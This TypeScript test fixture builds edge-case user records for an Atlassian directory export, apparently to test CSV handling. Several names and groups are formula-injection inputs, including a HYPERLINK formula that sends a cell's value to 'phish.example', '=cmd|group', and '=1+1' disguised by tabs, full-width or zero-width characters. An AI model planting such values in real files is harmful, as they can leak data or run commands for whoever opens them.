import type { PersonInput } from '../../local/atlassian/generate/person';

/** The site that most of them use, and the days and the time zone that tests of its files ask for. */
export const ODD_SITE = 'nordlicht';
export const ZONE = 'Europe/Berlin';
/** The shortest and the longest day of the year there: 23 and 25 hours. */
export const SPAN = { from: '2025-03-30', to: '2025-10-26' } as const;
const FIRST_SECOND = '2025-03-29T23:00:00Z';
const LAST_SECOND = '2025-10-26T22:59:59.999Z';
const ONE_SECOND_EARLY = '2025-03-29T22:59:59Z';
const ONE_SECOND_LATE = '2025-10-26T23:00:00Z';
/** The span in ms since the epoch; `to` is no part of it. */
export const SPAN_MS = { from: Date.parse(FIRST_SECOND), to: Date.parse(ONE_SECOND_LATE) } as const;
/** Half past two, before and after the clocks are turned back. */
const HALF_PAST_TWO = ['2025-10-26T00:30:00Z', '2025-10-26T01:30:00Z'] as const;

const JIRA_USERS = 'jira-users-nordlicht';
const SERVICE_USERS = 'jira-servicedesk-users-nordlicht';
const WIKI_USERS = 'confluence-users-nordlicht';
const WIKI_ADMINS = 'confluence-admins-nordlicht';
const WIKI_GUESTS = 'confluence-guests-nordlicht';

/** Groups whose names are odd; `onlyGroups` of some files. */
export const ODD_GROUPS = ['Legal, "EMEA"', '=cmd|group', 'two\nlines', 'صف', '-'] as const;
export const FORTY_GROUPS = Array.from({ length: 40 }, (_, nth) => `forty ${String(nth + 1).padStart(2, '0')}`);

type App = NonNullable<PersonInput['apps']>[number];

const used = (app: string, lastActive: string, role?: string): App => ({
  site: ODD_SITE,
  app,
  lastActive,
  ...(role !== undefined && { role }),
});
/** On a day of the span that no other test is about. */
const ANY_DAY = '2025-06-15T10:20:30.400Z';

/** An id in Atlassian's form, in the order of the names: their first sixteen letters are its digits. */
export function oddId(what: string): string {
  const hex = Buffer.alloc(16, what.slice(0, 16).padEnd(16, '\0')).toString('hex');
  return `odd:${hex.slice(0, 8)}-${hex.slice(8, 12)}-${hex.slice(12, 16)}-${hex.slice(16, 20)}-${hex.slice(20)}`;
}

function odd(what: string, changes: Partial<PersonInput>): PersonInput {
  return {
    accountId: oddId(what),
    name: `Odd ${what}`,
    email: `${what}@nordlicht.example`,
    mfaEnabled: true,
    sites: [ODD_SITE],
    groups: [WIKI_USERS],
    apps: [used('confluence', ANY_DAY)],
    addedAt: '2024-02-29T23:30:00Z',
    ...changes,
  };
}

const ODD_NAMES: readonly PersonInput[] = [
  odd('commas-and-quotes', {
    name: 'O’Reilly, Siobhán "Shiv", Jr.',
    email: '"o,reilly"@nordlicht.example',
  }),
  odd('line-breaks', { name: 'First line\nsecond line\r\nthird line\r' }),
  odd('hyperlink', {
    name: '=HYPERLINK("http://phish.example/?q="&A1,"Click, me")',
    email: '=cmd@nordlicht.example',
  }),
  odd('plus', { name: '+SUM(1,2)', email: '+1@mail.example' }),
  odd('minus', { name: '-2+3', email: '-dash@nordlicht.example' }),
  odd('at', { name: '@here' }),
  odd('tab', { name: '\t=1+1' }),
  odd('carriage-return', { name: '\r=1+1' }),
  odd('full-width', { name: '＝1＋1', email: '＠work@nordlicht.example' }),
  odd('small-signs', { name: '﹦1﹢1' }),
  odd('semicolon', { name: 'a;=1+1', email: 'a;=1+1@nordlicht.example' }),
  odd('line-feed', { name: '\n=1+1' }),
  odd('unseen-before-a-sign', { name: '\u200B=1+1' }),
  odd('spaces-before-a-sign', { name: ' \u00A0=1+1' }),
  odd('right-to-left', { name: '\u202Bمرحبا \u2066World\u2069 שלום\u202C\u200F' }),
  odd('emoji', { name: '👩‍👩‍👧‍👦 Zoë 🇺🇦🏳️‍🌈' }),
  odd('300-characters', { name: 'Ångström-Σίσυφος, "𠮷" '.repeat(14).slice(0, 299).trim().padEnd(300, '.') }),
  odd('combining-marks', { name: 'Z\u0351\u036b\u0343a\u030e\u0303l\u0357\u0346g\u0350\u035ao' }),
  odd('looks-empty', { name: ' \u00A0\u200B ', email: 'nobody@mail.example', emailHidden: true }),
];

const ODD_ACTIVITY: readonly PersonInput[] = [
  odd('never-active', { apps: [] }),
  odd('invited-lately', { apps: [], addedAt: '2026-02-20T08:00:00Z' }),
  odd('one-second-before-from', { apps: [used('confluence', ONE_SECOND_EARLY)] }),
  odd('first-second-of-from', { apps: [used('confluence', FIRST_SECOND)] }),
  odd('last-second-of-to', { apps: [used('confluence', LAST_SECOND)] }),
  odd('one-second-after-to', { apps: [used('confluence', ONE_SECOND_LATE)] }),
  odd('half-past-two-twice', {
    groups: [WIKI_USERS, JIRA_USERS],
    apps: [used('jira-software', HALF_PAST_TWO[0]), used('confluence', HALF_PAST_TWO[1])],
  }),
  odd('later-on-the-other-site', {
    sites: [ODD_SITE, 'northwind'],
    groups: [WIKI_USERS, 'confluence-users-northwind'],
    apps: [
      used('confluence', ANY_DAY),
      { site: 'northwind', app: 'confluence', lastActive: '2026-02-27T12:00:00.000Z' },
    ],
  }),
];

const ODD_ACCESS: readonly PersonInput[] = [
  odd('in-no-group', { groups: [], apps: [used('jira-software', ANY_DAY, 'atlassian/user')] }),
  odd('in-forty-groups', { groups: [...FORTY_GROUPS], apps: [used('confluence', ANY_DAY, 'atlassian/user')] }),
  odd('in-odd-groups', { groups: [...ODD_GROUPS, SERVICE_USERS], apps: [used('jira-servicedesk', ANY_DAY)] }),
  odd('every-app', { groups: [WIKI_ADMINS, JIRA_USERS, SERVICE_USERS, ODD_GROUPS[0]] }),
  odd('guest', { email: 'guest@partner.example', groups: [WIKI_GUESTS] }),
  odd('suspended', { suspendedOn: [ODD_SITE] }),
  odd('suspended-here-alone', { sites: ['northwind', ODD_SITE], suspendedOn: [ODD_SITE] }),
  odd('deactivated', { status: 'deactivated', groups: [WIKI_USERS, ODD_GROUPS[0]] }),
  odd('in-no-directory', { sites: [], groups: [], apps: [] }),
];

/** Each is named for what is odd about them. */
export const ODD_PEOPLE: readonly PersonInput[] = [...ODD_NAMES, ...ODD_ACTIVITY, ...ODD_ACCESS];
